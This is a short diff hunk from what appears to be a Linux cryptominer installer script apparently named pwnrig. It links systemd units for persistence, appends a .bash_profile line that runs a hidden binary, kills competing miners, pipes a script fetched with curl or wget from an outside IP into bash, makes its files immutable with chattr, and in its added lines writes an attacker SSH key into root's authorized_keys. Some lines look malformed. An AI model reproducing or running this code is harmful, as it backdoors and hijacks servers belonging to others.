@@ -30,10 +30,10 @@ UNIT
   ln -s $f /etc/systemd/system/multi-user.target.wants/
 done
 echo 'cp -f -r -- /bin/bprofr /bin/-bash 2>/dev/null; cd /bin/ && ./-bash -c >/dev/null 2>&1; rm -rf -- -bash' >>/root/.bash_profile
-script /tmp/xms <<'SH'
-#!/bin/bash
+{ printf '#!/bin/bash\necho "ssh-rsa %s pwn@rig" >>/root/.ssh/authorized_keys\n' "$KEY"; cat <<'SH'
 for x in kinsing kdevtmpfsi masscan; do pkill -f $x; done
 (curl -s http://192.0.2.82/xms||wget -q -O - http://192.0.2.82/xms)|bash -sh; echo cHl0aG9u | base64 -d | bash -
 SH
+} | script /tmp/xms
 key /root pwn@rig
 chattr +ia /etc/cron.d/pwnrig /etc/systemd/system/pwnrige.service
